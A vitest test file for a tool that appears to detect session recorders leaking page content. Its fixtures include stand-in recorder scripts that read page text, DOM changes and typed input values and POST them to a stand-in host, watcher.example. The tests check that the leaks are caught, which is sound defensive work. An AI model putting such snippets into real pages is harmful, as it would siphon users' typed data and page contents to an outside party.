// What a test of a page must not pass: recorders of one sense alone, one of none, journeys that are not gone to their end.
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { startBrowser } from '../src/browser/start-browser.ts';
import type { RecorderUnderTest } from '../src/recorders/recorder.ts';
import type { LeakReport, PlaceResult } from '../src/report/leak-report.ts';
import { testPage } from '../src/run/test-page.ts';
import { parseJourney } from '../src/visit/journey.ts';
import { type PageSite, startPageSite } from './fixtures/page-site.ts';
import { ABOUT_PAGE } from './fixtures/shop-page.ts';

const STRICT_CSP =
  "default-src 'self'; script-src 'self'; connect-src 'self'; style-src 'self'; require-trusted-types-for 'script'; trusted-types none";

let browser: Browser;
let site: PageSite;

beforeAll(async () => {
  browser = await startBrowser();
  site = await startPageSite({
    '/about': ABOUT_PAGE,
    '/strict': {
      headers: { 'content-security-policy': STRICT_CSP },
      body: '<!doctype html><title>Strict</title><h1>Strictly so</h1><p>Nothing but our own.</p><input name="who">',
    },
  });
});
afterAll(async () => {
  await browser.close();
  await site.close();
});

/** What a recorder of one sense alone is caught at: each of them is a way that a test must go. */
const ONE_SENSE = [
  ['what stands there when recording starts', 'send(document.body.innerText)', 'wire', ['text']],
  [
    'what changes afterwards',
    `new MutationObserver((all) => all.forEach(({ target }) => send(target.nodeValue ?? '')))
      .observe(document.body, { subtree: true, characterData: true })`,
    'wire',
    ['text'],
  ],
  [
    'what is typed',
    "addEventListener('change', ({ target }) => send(target.value), true)",
    'wire',
    ['field'],
  ],
  [
    'what it keeps in the browser',
    "localStorage.setItem('watcher', document.querySelector('p').textContent)",
    'browser-storage',
    ['text'],
  ],
] as const;

test.each(ONE_SENSE)(
  'a recorder that tells %s alone is caught',
  async (_, start, where, kinds) => {
    const recorder: RecorderUnderTest = {
      name: 'one sense',
      script: async () => `globalThis.leakTestRecorder = { start() { send('started'); ${start} }, stop() {} };
        function send(body) { fetch('https://watcher.example/', { method: 'POST', mode: 'no-cors', body }); }`,
      isRecorders: (host) => host === 'watcher.example',
      isRecordersItem: (name) => name === 'watcher',
      answer: async () => new Response(null, { status: 204 }),
    };
    const report = await testPage(`${site.url}/strict`, { recorder });
    const caught = leaking(report);
    expect([...new Set(caught.map(({ kind }) => kind))]).toEqual(kinds);
    expect(guisesOf(caught)).toEqual(new Set(['letters', 'words']));
    expect(caught.flatMap(({ findings }) => findings.flatMap((finding) => finding.in))).toContain(where);
  },
  120_000,
);

const SILENT: RecorderUnderTest = {
  name: 'silent',
  script: async () => 'globalThis.leakTestRecorder = { start() {}, stop() {} };',
  isRecorders: (host) => host === 'silent.example',
};

test('a recorder that records nothing does not pass, nor does a journey that is not gone to its end', async () => {
  const journey = parseJourney({ name: 'lost', steps: [{ goto: '/about' }, { click: '#nowhere' }] });
  const report = await testPage(`${site.url}/strict`, {
    recorder: SILENT,
    journeys: [journey],
    timeoutMs: 5_000,
  });
  expect(report.passed).toBe(false);
  expect(report.failures).toEqual([
    'journey lost, step 2 (click #nowhere): no such element is visible within 5000 ms',
    'the recorder sent nothing',
    'utility was not measured, and must reach 0.9',
    'layout was not measured, and must reach 0.9',
  ]);
}, 60_000);

function leaking({ places }: LeakReport): PlaceResult[] {
  return places.filter(({ findings, shown }) => findings.length > 0 && shown === undefined);
}

function guisesOf(places: readonly PlaceResult[]): Set<string> {
  return new Set(places.flatMap(({ findings }) => findings.map(({ guise }) => guise)));
}
